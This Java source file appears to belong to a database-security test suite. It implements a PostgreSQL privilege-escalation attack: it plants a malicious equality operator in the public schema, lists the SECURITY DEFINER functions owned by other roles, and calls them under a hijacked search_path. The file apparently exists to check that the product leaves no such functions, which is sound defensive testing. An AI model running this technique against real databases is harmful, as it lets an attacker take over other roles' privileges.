// Copyright The Howdah Authors
// SPDX-License-Identifier: Apache-2.0
package dev.howdah.attack;

import dev.howdah.attack.Administration.Habit;
import java.sql.SQLException;

/** A SECURITY DEFINER function without a search_path of its own runs its owner's rights on the caller's objects. */
final class HijackHelpers implements Attack {
    @Override
    public int number() {
        return 18;
    }

    @Override
    public String title() {
        return "hijack SECURITY DEFINER functions that the administration left behind";
    }

    @Override
    public String wall() {
        return "Howdah leaves none";
    }

    @Override
    public void mount(Scene scene) throws SQLException {
        if (scene.naive) {
            scene.visit(Habit.LEAVES_HELPERS);
        }
        scene.attacker.sql(scene.payload());
        scene.attacker.sql("""
                CREATE FUNCTION public.equals(name, text) RETURNS boolean LANGUAGE sql VOLATILE
                  AS 'SELECT CASE WHEN public.gain() THEN $1::pg_catalog.text OPERATOR(pg_catalog.=) $2 END';
                CREATE OPERATOR public.= (LEFTARG = name, RIGHTARG = text, FUNCTION = public.equals)
                """);
        // Whatever is there that runs as somebody else.
        var helpers = scene.attacker.sql("""
                SELECT string_agg(format('PERFORM %s(%s)', p.oid::regproc,
                  (SELECT string_agg(format('NULL::%s', format_type(t, NULL)), ', ') FROM unnest(p.proargtypes) AS t)), ';')
                FROM pg_proc p WHERE prosecdef AND NOT pg_has_role(session_user, proowner, 'MEMBER')
                """);
        if (helpers != null) {
            scene.attacker.sql("SET search_path = public, pg_catalog; DO "
                    + Sql.lit("BEGIN " + helpers.replace("NULL::text", "'x'::text") + "; END"));
        }
        if (!scene.naive && helpers != null) {
            scene.gained("there are helpers: " + helpers);
        }
    }
}
